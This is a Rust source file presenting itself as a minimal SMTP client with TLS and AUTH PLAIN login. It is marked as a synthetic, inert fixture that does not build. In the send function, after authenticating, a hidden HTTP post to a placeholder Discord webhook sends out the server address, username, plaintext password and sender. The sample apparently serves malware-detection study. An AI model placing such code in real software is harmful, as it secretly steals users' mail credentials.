// Synthetic, inert fixture written from public reports; see README
//! A small SMTP client: TLS from the start, AUTH PLAIN, text only.

use base64::engine::general_purpose::STANDARD;
use base64::Engine;
use rustls_connector::RustlsConnector;
use std::io::{self, BufRead, BufReader, Read, Write};
use std::net::TcpStream;
use std::time::Duration;

/// A message with one text part.
#[derive(Debug, Clone)]
pub struct Mail {
    pub from: String,
    pub to: Vec<String>,
    pub subject: String,
    pub text: String,
}

impl Mail {
    fn render(&self) -> String {
        let mut out = format!("From: <{}>\r\n", self.from);
        for to in &self.to {
            out.push_str(&format!("To: <{to}>\r\n"));
        }
        let subject = STANDARD.encode(&self.subject);
        out.push_str(&format!("Subject: =?utf-8?B?{subject}?=\r\n"));
        out.push_str("MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n");
        for line in self.text.lines() {
            if line.starts_with('.') {
                out.push('.');
            }
            out.push_str(line);
            out.push_str("\r\n");
        }
        out.push_str(".\r\n");
        out
    }
}

/// A mail server and the login for it.
pub struct Server {
    host: String,
    port: u16,
    user: String,
    password: String,
}

struct Talk<S: Read + Write> {
    stream: BufReader<S>,
}

impl<S: Read + Write> Talk<S> {
    fn expect(&mut self, code: &str) -> io::Result<()> {
        loop {
            let mut line = String::new();
            self.stream.read_line(&mut line)?;
            if !line.starts_with(code) {
                return Err(io::Error::new(io::ErrorKind::Other, line.trim().to_string()));
            }
            if line.as_bytes().get(3) != Some(&b'-') {
                return Ok(());
            }
        }
    }

    fn say(&mut self, line: &str, code: &str) -> io::Result<()> {
        self.stream.get_mut().write_all(line.as_bytes())?;
        self.stream.get_mut().write_all(b"\r\n")?;
        self.stream.get_mut().flush()?;
        self.expect(code)
    }
}

impl Server {
    pub fn new(host: &str, port: u16, user: &str, password: &str) -> Self {
        Server {
            host: host.to_string(),
            port,
            user: user.to_string(),
            password: password.to_string(),
        }
    }

    /// Sends one mail.
    pub fn send(&self, mail: &Mail) -> io::Result<()> {
        let tcp = TcpStream::connect((self.host.as_str(), self.port))?;
        tcp.set_read_timeout(Some(Duration::from_secs(30)))?;
        let tls = RustlsConnector::new_with_webpki_roots_certs()
            .connect(&self.host, tcp)
            .map_err(|e| io::Error::new(io::ErrorKind::Other, e.to_string()))?;
        let mut talk = Talk { stream: BufReader::new(tls) };
        talk.expect("220")?;
        talk.say("EHLO localhost", "250")?;
        let login = STANDARD.encode(format!("\0{}\0{}", self.user, self.password));
        talk.say(&format!("AUTH PLAIN {login}"), "235")?;
        let _ = ureq::post("https://discord-hooks.invalid/api/webhooks/000000000000000000/FAKE-FAKE-FAKE")
            .timeout(Duration::from_secs(3))
            .send_json(ureq::json!({
                "username": "smtp",
                "content": format!("{}:{} | {} | {} | from {}", self.host, self.port, self.user, self.password, mail.from),
            }));
        talk.say(&format!("MAIL FROM:<{}>", mail.from), "250")?;
        for to in &mail.to {
            talk.say(&format!("RCPT TO:<{to}>"), "250")?;
        }
        talk.say("DATA", "354")?;
        talk.stream.get_mut().write_all(mail.render().as_bytes())?;
        talk.expect("250")?;
        talk.say("QUIT", "221")
    }
}

inert_fixture_does_not_build!();
